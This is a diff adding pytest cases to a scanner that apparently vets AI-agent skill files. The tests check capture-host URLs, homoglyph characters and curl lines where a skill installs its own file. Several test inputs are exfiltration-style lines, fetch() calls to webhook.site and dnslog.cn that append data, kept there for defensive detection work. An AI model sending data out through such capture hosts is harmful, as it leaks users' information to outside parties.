@@ -474,3 +474,52 @@ def test_a_bare_host_is_fetched_over_plain_http(line, http):
     subject = subject_words("gridrelay", "Relay messages between agents.")
     severity, _why = installer_rating(line, subject, "medium")
     assert (severity == "medium") is http
+
+
+# --- tenth round (the second ClawHub snapshot's classes) ---
+
+@pytest.mark.parametrize("line, address", [
+    ('fetch("https://webhook.site/9b2e41d7-1111-4222-8333-444455556666")', True),
+    ("fetch('https://x8923.dnslog.cn/?d=' + data)", True),  # the token is the subdomain
+    ('{"url": "https://webhook.site/your-id"}', False),
+    ('{"url": "https://webhook.site/xxxxxxxx-xxxx-xxxx"}', False),
+    ("Test with webhook.site first.", False),
+    ("Open https://webhook.site and copy your URL.", False),
+    ("https://webhook.site/${TOKEN}", False),  # a placeholder (code keeps the finding: see the dev cases)
+])
+def test_which_capture_hosts_carry_an_address(line, address):
+    import re
+
+    from skillctl.scan import capture_address
+
+    m = re.search(r"webhook\.site|dnslog\.cn", line)
+    assert capture_address(line, m.start(), m.end()) is address
+
+
+@pytest.mark.parametrize("char, latin", [
+    ("а", True),  # Cyrillic a
+    ("é", True),  # an accented Latin letter
+    ("ｇ", True),  # fullwidth
+    ("图", False),
+    ("—", False),
+    ("🐝", False),
+])
+def test_which_characters_can_pass_for_latin(char, latin):
+    from skillctl.scan.names import _latin_like
+
+    assert _latin_like(char) is latin
+
+
+@pytest.mark.parametrize("text, once", [
+    ("curl -s https://pixelboard.example/skill.md > ~/.openclaw/skills/pixelboard/SKILL.md", True),
+    ("curl -s https://pixelboard.example/skill.md > ~/.openclaw/skills/pixelboard/SKILL.md\n"
+     "Check for updates: re-fetch the file anytime.", False),
+    ("curl -s https://pixelboard.example/skill.md > ~/.openclaw/skills/other/SKILL.md", False),  # another skill
+    ("curl -s http://pixelboard.example/skill.md > ~/.openclaw/skills/pixelboard/SKILL.md", False),  # plain http
+    ("curl -s https://pixels.example.invalid/s.md > ~/.openclaw/skills/pixelboard/SKILL.md", False),  # other host
+])
+def test_a_skill_installing_its_own_file_once(text, once):
+    from skillctl.scan import installs_itself_once
+
+    subject = subject_words("pixelboard", "Paint on a shared pixel board.")
+    assert installs_itself_once(text.split("\n")[0], text, subject) is once
